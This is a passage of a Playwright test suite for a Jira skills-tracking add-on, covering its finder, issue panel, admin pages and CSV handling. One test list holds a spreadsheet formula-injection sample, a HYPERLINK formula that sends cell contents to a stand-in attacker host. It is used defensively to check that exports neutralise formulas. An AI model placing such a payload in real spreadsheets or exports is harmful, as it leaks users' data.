    # Drawn lazily: 40 collapsed categories, no skill rows, no one looked up yet.
    expect(page.locator("#tree li")).to_have_count(40)
    assert me.jira.bulk_calls == []
    expect(page.locator("#all-skills option")).to_have_count(n_skills)

    page.get_by_role("button", name=re.compile(r"^Area 00")).click()
    expect(page.locator("#tree li")).to_have_count(90)
    page.get_by_role("button", name=re.compile(r"^Skill 0000")).click()
    everyone = page.get_by_role("list", name="People who know Skill 0000")
    expect(everyone.locator("li")).to_have_count(60)
    expect(everyone.locator(".person-name").first).to_have_text("Person 0")
    expect(everyone.locator(".person-name").nth(1)).to_have_text("acc-00001")
    more = page.get_by_role("button", name="Show 60 more of 9940")
    more.click()
    expect(everyone.locator("li")).to_have_count(120)
    expect(everyone.locator(".person-name").nth(118)).to_have_text("Person 118")
    me.screenshot("finder-10k")
    expect(page.locator("#lookup-status")).to_have_text("")  # no look-up left waiting
    looked_up = [i for ids in me.jira.bulk_calls for i in ids]
    assert len(looked_up) == len(set(looked_up)) == 120  # each person once, only those drawn
    assert all(len(ids) <= 90 for ids in me.jira.bulk_calls)

    search = page.get_by_label("Skill", exact=True)
    search.fill("Skill 0000")
    search.press("Enter")
    search.fill("Skill 0010")
    search.press("Enter")
    expected = sum(1 for skills in holdings.values() if "Skill 0010" in skills)
    expect(page.locator(".search-summary")).to_have_text(
        f"The best 50 matches are shown; {expected} have all of: Skill 0000, Skill 0010.")


# ---------------------------------------------------------------------------------------------
# The issue panel

def test_issue_panel_shows_the_assignees_skills_and_who_knows_the_rest(ui, experts):
    me = ui(BOB)
    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder"})
    me.jira.issues["PRJ-1"] = ALICE
    page = me.open("/panels/issue?issueKey=PRJ-1")
    expect(page.locator("#assignee .person-name")).to_have_text("Alice Example")
    expect(page.locator("#skill-list li")).to_have_text(["Python", "Go"])
    assert "/rest/api/3/issue/PRJ-1?fields=assignee" in me.jira.rest_calls

    page.get_by_text("Who knows what the assignee does not").click()
    others = page.locator("#others-body li")
    expect(others).to_have_count(2)
    expect(others.nth(0)).to_contain_text("Figma")
    expect(others.nth(0).locator(".person-name")).to_have_text(["acc-carol"])
    expect(others.nth(1)).to_contain_text("Negotiation")
    me.screenshot("issue-panel")
    page.get_by_role("button", name="Open the expert finder").click()
    wait_until(page, lambda: me.jira.navigations)
    assert me.jira.navigations[-1]["context"]["moduleKey"] == "skills-finder"


def test_issue_panel_shows_the_assignees_levels(ui, jira, tenant, experts):
    rate(jira, tenant, ALICE, {"Go": 4, "Python": 1})
    me = ui(BOB)
    me.jira.users.update({ALICE: "Alice Example"})
    me.jira.issues["PRJ-3"] = ALICE
    page = me.open("/panels/issue?issueKey=PRJ-3")
    skills = page.locator("#skill-list li")
    expect(skills).to_have_text(["PythonBeginner", "GoExpert"])
    expect(skills.nth(1).locator(".lozenge")).to_have_class(re.compile("lozenge-expert"))
    rate(jira, tenant, ALICE, {"Python": None})
    page.reload()
    expect(skills).to_have_text(["Python", "GoExpert"])  # not rated: the name alone
    me.screenshot("issue-panel-levels")


def test_issue_panel_for_an_unassigned_issue(ui, experts):
    me = ui(BOB)
    me.jira.issues["PRJ-2"] = None
    page = me.open("/panels/issue?issueKey=PRJ-2")
    expect(page.locator("#assignee")).to_have_text("Unassigned")
    expect(page.locator("#empty")).to_have_text("Assign the issue to see what the assignee knows.")
    expect(page.locator("#others")).to_be_hidden()


# ---------------------------------------------------------------------------------------------
# Admin page: the skill tree

def test_admin_shapes_the_skill_tree(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Go", "Figma"])
    admin = ui(ADMIN)
    page = admin.open("/pages/admin")
    expect(page.locator("#tree-editor")).to_have_attribute("aria-busy", "false")
    expect(page.locator("#loose-skills li")).to_have_text(["Figma", "Go"])

    name = page.get_by_label("Category name")
    name.fill("Engineering")
    name.press("Enter")
    expect(page.locator("#status")).to_have_text("Created Engineering.")
    name.fill("Design")
    name.press("Enter")
    expect(page.locator("#status")).to_have_text("Created Design.")
    name.fill("Backend")
    page.get_by_label("Inside").select_option(label="Engineering")
    page.get_by_role("button", name="Create category").click()
    expect(page.locator("#status")).to_have_text("Created Backend.")
    expect(name).to_be_focused()
    assert [(n["displayName"], [c["displayName"] for c in n["children"] if c["type"] == "category"])
            for n in tree_of(jira, tenant) if n["type"] == "category"] == [("Engineering", ["Backend"]), ("Design", [])]

    page.get_by_role("button", name="Rename Backend").click()
    page.get_by_label("New name for Backend").fill("Server side")
    page.get_by_label("New name for Backend").press("Enter")
    expect(page.locator("#status")).to_have_text("Renamed to Server side.")

    place = page.get_by_label("Skill to place in Server side")
    place.fill("go")
    place.press("Enter")
    expect(page.locator("#status")).to_have_text("Placed go in Server side.")
    expect(page.locator("#loose-skills li")).to_have_text(["Figma"])
    expect(page.get_by_role("list", name="Skills in Server side").locator("li .name")).to_have_text(["Go"])

    page.get_by_role("button", name="Move up Design").click()
    expect(page.locator("#status")).to_have_text("Moved Design up.")
    expect(page.get_by_role("button", name="Move up Design")).to_be_disabled()
    page.get_by_role("button", name="Move to… Server side").click()
    page.get_by_label("New place for Server side").select_option(label="(top level)")
    page.get_by_role("button", name="Move", exact=True).click()
    expect(page.locator("#status")).to_have_text("Moved Server side.")
    admin.screenshot("admin-tree")
    tree = tree_of(jira, tenant)
    assert [n.get("displayName", n["key"]) for n in tree] == ["Design", "Engineering", "Server side", "Figma"]
    assert [(c["type"], c["key"]) for c in tree[2]["children"]] == [("skill", "Go")]

    page.get_by_role("button", name="Take Go out of Server side").click()
    expect(page.locator("#status")).to_have_text("Go is in no category now.")
    expect(page.locator("#loose-skills li")).to_have_text(["Figma", "Go"])
    page.get_by_role("button", name="Delete Engineering").click()
    page.get_by_role("group").get_by_role("button", name="Delete", exact=True).click()
    expect(page.locator("#status")).to_have_text("Deleted Engineering.")
    assert [n.get("displayName", n["key"]) for n in tree_of(jira, tenant)] == ["Design", "Server side", "Figma", "Go"]
    assert skills_of(jira, tenant, ALICE) == ["Go", "Figma"]  # people keep their skills


def test_admin_edits_the_scale_seeing_what_a_smaller_one_does_first(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Python", "Go"])
    rate(jira, tenant, ALICE, {"Python": 4, "Go": 3})
    rate(jira, tenant, BOB, {"Go": 4})
    rate(jira, tenant, "acc-carol", {"SQL": 1})
    admin, page = open_admin_tab(ui, "Levels")
    expect(page.locator("#scale-form")).to_have_attribute("aria-busy", "false")
    expect(page.locator("#scale-rows tr")).to_have_count(4)
    expect(page.get_by_label("Name of level 4")).to_have_value("Expert")
    expect(page.get_by_label("Counts as an expert from")).to_have_value("3")

    page.get_by_label("Name of level 1").fill("Novice")
    page.get_by_label("What level 3 means").fill("Works on it alone")
    # Only the top level can go: the others keep their numbers, and so their meaning.
    expect(page.get_by_role("button", name=re.compile("^Remove level"))).to_have_count(1)
    page.get_by_role("button", name="Remove level 4").click()
    effect = page.locator("#scale-effect")
    expect(effect).to_have_text("Saving 3 levels moves 2 ratings at Expert (level 4) down to Proficient (level 3). "
                                "Skills that issues need above level 3 will need Proficient.")
    assert [row["level"] for row in jira.request(tenant, "GET", "/api/levels").json["levels"]] == [1, 2, 3, 4]
    page.get_by_label("Counts as an expert from").select_option(label="2. Competent")
    admin.screenshot("admin-levels")
    page.get_by_role("button", name="Save levels").click()
    expect(page.locator("#status")).to_have_text("Saved: 3 levels; experts from Competent up.")
    expect(effect).to_be_hidden()
    assert jira.request(tenant, "GET", "/api/levels").json == {"levels": [
        {"level": 1, "name": "Novice", "description": ""}, {"level": 2, "name": "Competent", "description": ""},
        {"level": 3, "name": "Proficient", "description": "Works on it alone"}], "expertLevel": 2}
    assert levels_of(jira, tenant, ALICE) == [("Python", 3), ("Go", 3)]
    assert levels_of(jira, tenant, BOB) == [("Go", 3)]

    # From the keyboard: a new level, named; two of one name are refused before anything is sent.
    page.get_by_role("button", name="Add a level").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_label("Name of level 4")).to_be_focused()
    page.keyboard.type("competent")
    expect(effect).to_be_hidden()
    page.keyboard.press("Enter")
    expect(page.locator("#status")).to_have_text("Level 4 has the name of level 2; names must differ.")
    expect(page.get_by_label("Name of level 4")).to_be_focused()
    page.get_by_label("Name of level 4").fill("Guru")
    page.keyboard.press("Enter")
    expect(page.locator("#status")).to_have_text("Saved: 4 levels; experts from Competent up.")
    assert [row["name"] for row in jira.request(tenant, "GET", "/api/levels").json["levels"]] == [
        "Novice", "Competent", "Proficient", "Guru"]
    for _ in range(3):
        page.get_by_role("button", name="Add a level").click()
    expect(page.get_by_role("button", name="Add a level")).to_be_disabled()  # 7 at most
    page.get_by_role("button", name="Undo changes").click()
    expect(page.locator("#scale-rows tr")).to_have_count(4)


def test_admin_previews_then_splits_level_suffixes(ui, jira, tenant):
    give(jira, tenant, ALICE, ["Engineering - Beginner", "Go"])
    give(jira, tenant, BOB, ["Engineering - Expert"])
    admin, page = open_admin_tab(ui, "Levels")
    page.get_by_role("button", name="Preview the split").click()
    heading = page.locator("#split-heading")
    expect(heading).to_have_text("2 skills become levels; 4 holdings change.")
    expect(heading).to_be_focused()
    rows = page.locator("#split-table tbody tr")
    assert [[cell.text_content() for cell in row.locator("td").all()] for row in rows.all()] == [
        ["Engineering - Beginner", "Engineering", "Beginner", "1"], ["Engineering - Expert", "Engineering", "Expert", "1"]]
    admin.screenshot("admin-split-preview")
    page.get_by_role("button", name="Cancel").click()
    expect(page.locator("#split-table")).to_have_count(0)
    assert skills_of(jira, tenant, ALICE) == ["Engineering - Beginner", "Go"]
    page.get_by_role("button", name="Preview the split").click()
    page.get_by_role("button", name="Apply", exact=True).click()
    expect(page.locator("#split-applied")).to_have_text("Done: 2 skills became levels; 4 holdings changed.")
    assert levels_of(jira, tenant, ALICE) == [("Engineering", 1), ("Go", None)]
    assert levels_of(jira, tenant, BOB) == [("Engineering", 4)]
    page.get_by_role("button", name="Preview the split").click()
    expect(page.locator("#split-none")).to_have_text("No skill is named with a level of this scale.")
    page.get_by_role("tab", name="Skill tree").click()
    expect(page.locator("#loose-skills li")).to_have_text(["Engineering", "Go"])


def test_admin_exports_and_imports_the_tree_as_json(ui, jira, tenant):
    set_tree(jira, tenant, category("Engineering", skill("Python")))
    admin = ui(ADMIN)
    page = admin.open("/pages/admin")
    expect(page.locator("#tree-editor")).to_have_attribute("aria-busy", "false")
    page.get_by_role("tab", name="Tree import and export").click()
    with page.expect_download() as download:
        page.get_by_role("button", name="Download skill-tree.json").click()
    with open(download.value.path(), encoding="utf-8") as fh:
        exported = json.load(fh)
    assert exported == {"skillTree": tree_of(jira, tenant)}

    page.get_by_label("or paste the JSON").fill(json.dumps(
        {"skillTree": [category("Data", skill("SQL"), category("ML", skill("PyTorch")))]}))
    page.get_by_role("button", name="Import tree").click()
    page.get_by_role("button", name="Replace the tree").click()
    expect(page.locator("#status")).to_have_text("Imported: 2 categories, 3 skills.")
    tree = tree_of(jira, tenant)
    assert [n.get("displayName", n["key"]) for n in tree] == ["Data", "Python"]

    page.get_by_label("or paste the JSON").fill("{not json")
    page.get_by_role("button", name="Import tree").click()
    expect(page.locator("#status")).to_contain_text("That is not valid JSON")
    assert tree_of(jira, tenant) == tree


# ---------------------------------------------------------------------------------------------
# Framing, refusals and the keyboard

def test_a_jira_site_may_frame_the_pages_and_another_site_may_not(ui, standin, jira, tenant):
    give(jira, tenant, ALICE, ["Python"])
    me = ui(ALICE)
    page_url = me.live_server.url + signed_page_url(tenant, "/pages/user", ALICE)
    # TENANT_HOSTS of the tests allow 127.0.0.1 (on http, any port): there the page loads and works.
    me.page.goto(f"http://127.0.0.1:{standin.port}/host.html#" + page_url)
    framed = me.page.frame_locator("#addon")
    expect(framed.locator("#skill-list li .name")).to_have_text(["Python"])
    framed.get_by_label("Add a skill").fill("Go")
    framed.get_by_label("Add a skill").press("Enter")
    expect(framed.locator("#skill-list li")).to_have_count(2)
    assert skills_of(jira, tenant, ALICE) == ["Python", "Go"]

    # localhost is no tenant host: Chromium refuses to show the page in its frame.
    other = ui(ALICE)
    blocked = []
    other.page.on("console", lambda msg: blocked.append(msg.text) if "frame-ancestors" in msg.text else None)
    other.page.goto(f"http://localhost:{standin.port}/host.html#"
                    + me.live_server.url + signed_page_url(tenant, "/pages/user", ALICE))
    wait_until(other.page, lambda: blocked)
    assert other.page.frame_locator("#addon").locator("#skill-list").count() == 0
    other.problems.clear()  # the refusal is what this part tests


@pytest.mark.parametrize("path", ["/pages/finder", "/pages/user", "/panels/issue?issueKey=PRJ-1", "/pages/admin"])
def test_a_page_opened_without_jwt_shows_why_and_runs_nothing(ui, path):
    me = ui(ADMIN)
    response = me.page.goto(me.live_server.url + path)
    assert response.status == 401
    expect(me.page.locator("h1")).to_have_text("This page could not be shown")
    expect(me.page.get_by_role("alert")).to_contain_text("must be opened from Jira")
    assert me.jira.tokens_signed == 0 and me.jira.rest_calls == []
    me.screenshot("refused")
    me.problems.clear()  # Chromium logs the 401 of the document itself


def test_admin_tabs_and_tree_work_with_the_keyboard(ui, jira, tenant):
    set_tree(jira, tenant, category("Engineering", skill("Python")))
    give(jira, tenant, ALICE, ["Python"])
    page = ui(ADMIN).open("/pages/admin")
    expect(page.locator("#tree-editor")).to_have_attribute("aria-busy", "false")
    first = page.get_by_role("tab", name="Skill tree")
    first.focus()
    page.keyboard.press("ArrowRight")
    expect(page.get_by_role("tab", name="Tree import and export")).to_be_focused()
    expect(page.get_by_role("tab", name="Tree import and export")).to_have_attribute("aria-selected", "true")
    expect(page.locator("#panel-tree-io")).to_be_visible()
    expect(page.locator("#panel-tree")).to_be_hidden()
    page.keyboard.press("End")
    expect(page.get_by_role("tab", name="API tokens")).to_be_focused()
    page.keyboard.press("ArrowRight")  # wraps around
    expect(first).to_be_focused()
    expect(page.locator("#panel-tree")).to_be_visible()

    # A category opens and closes from the keyboard; Escape leaves a rename untouched.
    toggle = page.get_by_role("button", name=re.compile(r"^Engineering"))
    toggle.focus()
    page.keyboard.press("Enter")
    expect(toggle).to_have_attribute("aria-expanded", "false")
    page.keyboard.press("Enter")
    expect(toggle).to_have_attribute("aria-expanded", "true")
    page.get_by_role("button", name="Rename Engineering").click()
    field = page.get_by_label("New name for Engineering")
    expect(field).to_be_focused()
    field.fill("Something else")
    page.keyboard.press("Escape")
    expect(field).to_have_count(0)
    expect(toggle).to_be_focused()
    assert [n["displayName"] for n in tree_of(jira, tenant) if n["type"] == "category"] == ["Engineering"]


def test_finder_fetches_a_skill_s_people_when_opened_and_says_when_it_cannot(ui, jira, tenant, experts):
    me = ui(ALICE)
    page = me.open("/pages/finder")
    expect(page.locator("#tree > ul > li")).to_have_count(3)
    # Two more people learn Figma after the page drew its counts: opening it shows them, and its count follows.
    give(jira, tenant, "acc-dan", ["Figma"])
    give(jira, tenant, "acc-eve", ["figma"])
    failures = []

    def first_fails(route):
        if not failures:
            failures.append(route.request.url)
            route.fulfill(status=503, content_type="application/json",
                          body=json.dumps({"error": "jira_unavailable", "message": "Try again in a moment."}))
        else:
            route.continue_()

    page.route("**/api/skill-tree/skill-experts?*", first_fails)
    page.get_by_role("button", name=re.compile(r"^Design")).click()
    figma = page.get_by_role("button", name=re.compile(r"^Figma"))
    expect(figma.locator(".badge")).to_have_text("1")
    figma.click()
    expect(page.get_by_role("alert")).to_have_text("Try again in a moment.")
    assert "skill=Figma" in failures[0]
    page.get_by_role("button", name="Try again").click()
    people = page.get_by_role("list", name="People who know Figma")
    expect(people.locator(".person-name")).to_have_text(["acc-carol", "acc-dan", "acc-eve"])
    expect(figma.locator(".badge")).to_have_text("3")
    expect(figma.locator(".badge")).to_have_attribute("aria-label", "3 people")
    expect(page.get_by_role("button", name="Try again")).to_have_count(0)
    # Chromium logs the 503 this test answered; nothing else went wrong.
    assert [p for p in me.problems if "status of 503" not in p] == []
    me.problems.clear()


def test_finder_opens_skills_with_the_keyboard(ui, experts):
    me = ui(ALICE)
    page = me.open("/pages/finder")
    expect(page.locator("#tree > ul > li")).to_have_count(3)
    page.get_by_role("button", name=re.compile(r"^Design")).focus()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name=re.compile(r"^Figma"))).to_be_focused()
    page.keyboard.press("Space")
    expect(page.get_by_role("list", name="People who know Figma").locator(".person-name")).to_have_text(["acc-carol"])


# ---------------------------------------------------------------------------------------------
# Names compare in the browser as on the server (str.casefold, not toLowerCase)

def test_browser_folds_every_character_as_the_server_does(ui, tenant):
    """SkillsNames.nameKey against addon.skills.names for every code point this Python knows."""
    page = ui(ALICE).open("/pages/user")
    expect(page.locator("#skill-list")).to_have_attribute("aria-busy", "false")
    browser_folds = page.evaluate("""() => {
        const changed = {};
        for (let cp = 0; cp <= 0x10ffff; cp++) {
            if (cp >= 0xd800 && cp <= 0xdfff) continue;
            const ch = String.fromCodePoint(cp), folded = SkillsNames.casefold(ch);
            if (folded !== ch) changed[cp] = folded;
        }
        return changed;
    }""")
    server_folds = {}
    for cp in range(0x110000):
        char = chr(cp)
        if 0xD800 <= cp <= 0xDFFF or unicodedata.category(char) == "Cn":
            continue
        if name_key(char) != char:
            server_folds[str(cp)] = name_key(char)
    # Characters newer than this Python's Unicode are left out: the server cannot say how it folds them.
    known = {cp: folded for cp, folded in browser_folds.items() if unicodedata.category(chr(int(cp))) != "Cn"}
    differ = {f"U+{int(cp):04X}": (known.get(cp), server_folds.get(cp)) for cp in set(known) | set(server_folds)
              if known.get(cp) != server_folds.get(cp)}
    assert differ == {}
    assert len(server_folds) > 1400  # the comparison covered every cased script, not an empty page

    # Whole names: trimmed as str.strip() trims, NFC, folded; toLowerCase alone would fail each of these.
    samples = ["STRASSE", "straße", "ΣΊΣΥΦΟΣ", "ﬁle", "İstanbul", "\u1e9e", "\x1c Go \x85", "\ufeffGo",
               "e\u0301t\u00c9", "ǅemal", "ᏣᎳᎩ", "ꮳꮃꭹ"]
    in_browser = page.evaluate("(names) => names.map(SkillsNames.nameKey)", samples)
    assert in_browser == [name_key(unicodedata.normalize("NFC", s.strip())) for s in samples]
    assert in_browser[0] == in_browser[1] and in_browser[10] == in_browser[11]


def test_strasse_and_strasse_with_eszett_are_one_skill_in_the_pages_and_the_api(ui, jira, tenant):
    give(jira, tenant, ALICE, ["STRASSE"])
    set_tree(jira, tenant, category("Town", skill("STRASSE"), skill("Platz")))
    me = ui(ALICE)
    page = me.open("/pages/user")
    expect(page.locator("#skill-list li .name")).to_have_text(["STRASSE"])
    # The page's own check: a held skill is not suggested again, whatever its spelling.
    expect(page.locator("#skill-suggestions option")).to_have_count(1)
    assert page.locator("#skill-suggestions option").get_attribute("value") == "Platz"
    # And through the API: the server calls it the same skill.
    page.get_by_label("Add a skill").fill("straße")
    page.get_by_label("Add a skill").press("Enter")
    expect(page.locator("#status")).to_have_text("Already listed: STRASSE.")
    expect(page.locator("#skill-list li")).to_have_count(1)
    assert skills_of(jira, tenant, ALICE) == ["STRASSE"]

    finder = me.open("/pages/finder")
    expect(finder.locator("#tree > ul > li")).to_have_count(1)
    search = finder.get_by_label("Skill", exact=True)
    search.fill("Straße")
    search.press("Enter")
    expect(finder.locator(".search-summary")).to_have_text("1 person has STRASSE.")

    # The CSV preview's diff agrees: a file listing "straße" for Alice changes nothing.
    admin, admin_page = open_admin_tab(ui, "People's skills (CSV)")
    admin_page.get_by_label("CSV file").set_input_files(files=[{
        "name": "s.csv", "mimeType": "text/csv", "buffer": f"accountId,skill\n{ALICE},straße\n".encode()}])
    admin_page.get_by_role("button", name="Preview changes").click()
    expect(admin_page.locator("#csv-preview-heading")).to_have_text(
        "Nothing to change: everyone in the file already has exactly these skills.")


# ---------------------------------------------------------------------------------------------
# CSV: no formula reaches a spreadsheet, and export then import is still exact

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555", "-Ofast", "@SUM(A1:A9)",
            "'=already neutral", "''+two", "'plain apostrophe", "Go", "a=b"]


def test_csv_export_neutralises_formulas_and_import_restores_them_exactly(ui, jira, tenant):
    give(jira, tenant, ALICE, FORMULAS)
    admin, page = open_admin_tab(ui, "People's skills (CSV)")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download skills.csv").click()
    with open(download.value.path(), encoding="utf-8", newline="") as fh:
        exported = fh.read()
    cells = [row.rsplit(",", 1)[0].split(",", 1)[1] for row in exported.split("\r\n")[1:-1]]  # its level is the last cell
    assert cells == ['"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"', "'+1 555", "'-Ofast", "'@SUM(A1:A9)",
                     "''=already neutral", "'''+two", "'plain apostrophe", "Go", "a=b"]
    # No cell a spreadsheet reads as a formula: none starts with = + - @ once unquoted.
    assert not any(re.match(r'^"?[=+\-@\t\r]', cell) for cell in cells)

    # Alice loses everything; importing the export gives her back exactly what she had.
    give_none = jira.request(tenant, "POST", "/api/skills-by-account", sub=ADMIN, json={"skillsByAccountId": {ALICE: []}})
    assert give_none.status_code == 200
    page.get_by_label("CSV file").set_input_files(
        files=[{"name": "skills.csv", "mimeType": "text/csv", "buffer": exported.encode("utf-8")}])
    page.get_by_role("button", name="Preview changes").click()
    expect(page.locator("#csv-preview-heading")).to_have_text(
        "Preview: 1 person changes (9 skills added, 0 removed, 0 levels changed); 0 unchanged.")
    page.get_by_role("button", name="Apply changes").click()
    expect(page.locator("#csv-applied")).to_be_visible()
    assert skills_of(jira, tenant, ALICE) == FORMULAS


def test_csv_neutralising_round_trips_every_trigger(ui, tenant):
    page = ui(ADMIN).open("/pages/admin")
    expect(page.locator("#tree-editor")).to_have_attribute("aria-busy", "false")
    values = ["=1+1", "+", "-", "@x", "\tx", "\rx", "'", "'=", "'''@", "x=", " =x", "'x", ""]
    written = page.evaluate("(values) => values.map(SkillsCsv.neutralise)", values)
    assert written == ["'=1+1", "'+", "'-", "'@x", "'\tx", "'\rx", "'", "''=", "''''@", "x=", " =x", "'x", ""]
    assert page.evaluate("(values) => values.map(SkillsCsv.restore)", written) == values
    # Through the file: parse(format(rows)) restored by the reader gives back the very cells.
    text = page.evaluate("(values) => SkillsCsv.format([['accountId', 'skill']].concat(values.map(v => ['a1', v])))",
                         values)
    assert page.evaluate("(text) => SkillsCsv.parse(text).map(r => r.map(SkillsCsv.restore))", text)[1:] == \
        [["a1", v] for v in values]


# The expert finder of a large tenant: how soon it shows a result (issue 14)
#
# 2,000 skills; 10,000 people in the suite (seeding 50,000 takes minutes), 50,000 when bench/run.py
# runs it. The time is printed (and written to $FINDER_TIMING_FILE for the benchmark to record);
# the goal, a first result within 1 s of the page's load, is the benchmark's to judge: on a shared
# machine a timed assertion would fail for the neighbours' load.

FINDER_PEOPLE = int(os.environ.get("FINDER_PEOPLE", "10000"))
FINDER_SKILLS = 2_000
FINDER_PER_CATEGORY = 50
FINDER_BULK = 10_000  # accounts per request: the API's limit


# The time of the page's last performance mark of this name (it marks each result it draws).
DRAWN = "(name) => performance.getEntriesByName(name, 'mark').slice(-1)[0].startTime"


def test_finder_of_a_large_tenant_shows_its_first_result_soon(ui: Any, jira: JiraActions, tenant: Tenant) -> None:
    """Timed from navigation to the tree drawn with its counts, and from opening a skill to its people shown:
    first (nothing read yet), after a write, unchanged."""
    names = [f"Skill {i:04d}" for i in range(FINDER_SKILLS)]
    set_tree(jira, tenant, *[category(f"Area {c:02d}", *[skill(n) for n in names[c * FINDER_PER_CATEGORY:(c + 1) * FINDER_PER_CATEGORY]])
                             for c in range(FINDER_SKILLS // FINDER_PER_CATEGORY)])
    # 15 skills a person, spread over the catalogue; everyone knows Skill 0000.
    accounts = [f"{p:024x}" for p in range(FINDER_PEOPLE)]
    holdings = {account: list(dict.fromkeys([names[0]] + [names[(p * 7 + k * 131) % FINDER_SKILLS] for k in range(14)]))
                for p, account in enumerate(accounts)}
    for start in range(0, FINDER_PEOPLE, FINDER_BULK):
        part = {account: holdings[account] for account in accounts[start:start + FINDER_BULK]}
        response = jira.request(tenant, "POST", "/api/skills-by-account", sub=ADMIN, json={"skillsByAccountId": part})
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
    expected = {name: 0 for name in names}
    for held in holdings.values():
        for name in held:
            expected[name] += 1

    me = ui(ADMIN)
    me.jira.users.update({accounts[0]: "First Person"})
    figures: dict[str, float] = {}
    # The first visit reads what no request has read before; the next follows a write; the last repeats it.
    for visit in ("first", "after_write", "again"):
        if visit == "after_write":
            response = jira.request(tenant, "PUT", f"/api/user-skills?accountId={accounts[1]}", sub=ADMIN,
                                    json={"skills": ["Skill 1999"]})
            assert response.status_code == 200, response.get_data(as_text=True)
            expected["Skill 1999"] += 1
        started = time.perf_counter()
        page = me.open("/pages/finder")
        expect(page.locator("#status")).to_have_text(f"{FINDER_SKILLS} skills in the tree.", timeout=30_000)
        expect(page.locator("#tree li").first).to_be_visible()
        # Milliseconds from the start of the navigation (performance's time origin) to the tree drawn,
        # as the page marks it (expect() polls, so its own clock would add up to a polling interval).
        figures[f"{visit}_result_ms"] = round(page.evaluate(DRAWN, "skills:tree-drawn"), 1)
        figures[f"{visit}_wall_ms"] = round((time.perf_counter() - started) * 1000, 1)
        timing = page.evaluate("""() => {
            const e = performance.getEntriesByType('resource').find(r => r.name.includes('/api/skill-tree/expert-counts'));
            return e ? {fetch_ms: e.duration, bytes: e.transferSize || e.encodedBodySize} : null; }""")
        assert timing is not None, "the finder did not ask for the tree with counts"
        figures[f"{visit}_counts_fetch_ms"] = round(timing["fetch_ms"], 1)
        figures["counts_bytes"] = timing["bytes"]
        # The counts drawn are the holdings' (the last area's last skill got one more holder in the write).
        page.get_by_role("button", name=re.compile(r"^Area 39")).click()
        last = page.locator('[data-skill="Skill 1999"] .badge')
        expect(last).to_have_text(str(expected["Skill 1999"]))
        # Opening the skill everyone knows: from the click to its first people drawn.
        page.get_by_role("button", name=re.compile(r"^Area 00")).click()
        clicked = page.evaluate("performance.now()")
        page.get_by_role("button", name=re.compile(r"^Skill 0000")).click()
        everyone = page.get_by_role("list", name="People who know Skill 0000")
        expect(everyone.locator("li")).to_have_count(60, timeout=30_000)
        figures[f"{visit}_open_skill_ms"] = round(page.evaluate(DRAWN, "skills:people-drawn") - clicked, 1)
        assert page.get_by_role("button", name=re.compile(r"^Area 00")).count() == 1
    timing = page.evaluate("""() => {
        const e = performance.getEntriesByType('resource').find(r => r.name.includes('/api/skill-tree/skill-experts'));
        return e ? {fetch_ms: e.duration, bytes: e.transferSize || e.encodedBodySize} : null; }""")
    assert timing is not None, "the finder did not ask for the skill's people"
    figures["skill_experts_bytes"] = timing["bytes"]

    # The page works at this size: a skill's people are there, drawn a page at a time.
    expect(everyone.locator(".person-name").first).to_have_text("First Person")
    expect(page.get_by_role("button", name=f"Show 60 more of {FINDER_PEOPLE - 60}")).to_be_visible()
    expect(page.locator('[data-skill="Skill 0000"] .badge').first).to_have_text(str(FINDER_PEOPLE))
    # A search over two skills ranks the people who have both first; more than the 50 shown have both.
    page.get_by_label("Skill", exact=True).fill("skill 0131")
    page.get_by_role("button", name="Add to search").click()
    page.get_by_label("Skill", exact=True).fill("Skill 0000")
    page.get_by_role("button", name="Add to search").click()
    assert sum(1 for held in holdings.values() if "Skill 0131" in held) > 50
    expect(page.locator(".search-summary")).to_have_text(
        "The best 50 matches are shown; each has all of: Skill 0131, Skill 0000.")
    expect(page.get_by_role("list", name="People for Skill 0131, Skill 0000").locator(".why")).to_have_count(50)

    print(f"\nfinder with {FINDER_PEOPLE:,} people and {FINDER_SKILLS:,} skills: {json.dumps(figures)}")
    if os.environ.get("FINDER_TIMING_FILE"):
        with open(os.environ["FINDER_TIMING_FILE"], "w") as out:
            json.dump({"people": FINDER_PEOPLE, "skills": FINDER_SKILLS, **figures}, out)


# ---------------------------------------------------------------------------------------------
# The issue panel: the skills the issue needs, and who could take it (issue 22)

ISSUE_ID = "10001"
PANEL = f"/panels/issue?issueKey=PRJ-1&issueId={ISSUE_ID}"


@pytest.fixture
def skilled(app, jira, tenant, fake_jira):
    """People with levels, Jira's permissions on issue 10001 (ALICE edits, BOB browses), open issues."""
    from .issue_support import grant, set_levels
    from .test_issue_skills import tenant_id

    holdings = {ALICE: ["Python", "Go"], BOB: ["Python", "Go", "Figma"], "acc-carol": ["Python"],
                "acc-dan": ["Go", "Figma"]}
    assert jira.request(tenant, "POST", "/api/skills-by-account", sub=ADMIN,
                        json={"skillsByAccountId": holdings}).status_code == 200
    tid = tenant_id(app)
    set_levels(app, tid, ALICE, {"Python": 4, "Go": 2})
    set_levels(app, tid, BOB, {"Python": 2, "Go": 3})
    set_levels(app, tid, "acc-carol", {"Python": 3})
    set_levels(app, tid, "acc-dan", {"Go": 4, "Figma": 1})
    site = fake_jira.site_data("tenant-a")
    grant(site, ALICE, "BROWSE_PROJECTS", int(ISSUE_ID))
    grant(site, ALICE, "EDIT_ISSUES", int(ISSUE_ID))
    grant(site, BOB, "BROWSE_PROJECTS", int(ISSUE_ID))
    site["open_issues"] = {ALICE: 5, BOB: 1, "acc-carol": 0}
    return site


def test_issue_panel_editor_names_the_skills_and_sees_who_could_take_it(ui, jira, tenant, skilled, fake_jira):
    me = ui(ALICE)
    me.jira.users.update({ALICE: "Alice Example", BOB: "Bob Builder", "acc-carol": "Carol Chen", "acc-dan": "Dan Diaz"})
    me.jira.issues["PRJ-1"] = None
    me.jira.editable.add(ISSUE_ID)
    page = me.open(PANEL)
    expect(page.locator("#needed-empty")).to_have_text("No skills named for this issue yet.")
    expect(page.locator("#suggestions")).to_have_text("Name the skills this issue needs to see who could take it.")

    add_needed_skill(page, "python", "at least Competent")
    expect(page.locator("#needed-status")).to_have_text("Added python.")
    add_needed_skill(page, "Go")
    expect(page.locator("#needed-list li .name")).to_have_text(["Python", "Go"])  # spelled as stored
